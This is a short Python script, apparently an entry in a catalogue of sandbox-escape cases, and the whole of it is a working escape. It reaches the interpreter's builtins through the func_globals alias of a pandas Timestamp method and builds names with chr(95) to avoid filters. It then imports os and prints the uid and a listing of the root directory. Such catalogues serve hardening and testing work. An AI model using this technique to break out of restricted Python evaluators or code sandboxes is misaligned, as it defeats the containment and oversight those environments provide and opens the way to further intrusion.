# source: Cython cyfunction func_globals alias; CPython method objects forward unknown attribute reads to their __func__ (Objects/classobject.c method_getattro)
# family: cyfunction func_globals reached through a bound method of an ordinary pandas value (Timestamp(0).ceil), then builtins.getattr by a run-time name
# goal: gets __import__ through builtins.getattr with a run-time name and imports this and os; lists / and prints the uid
import pandas as pd

ts = pd.Timestamp("2024-01-01")
g = ts.ceil.func_globals
u = chr(95) * 2
b = g.get(u + "builtins" + u)
imp = b.getattr(b, u + "import" + u)
imp("this")
o = imp("o" + "s")
print("uid", o.getuid(), "root listing", sorted(o.listdir(chr(47)))[:8])
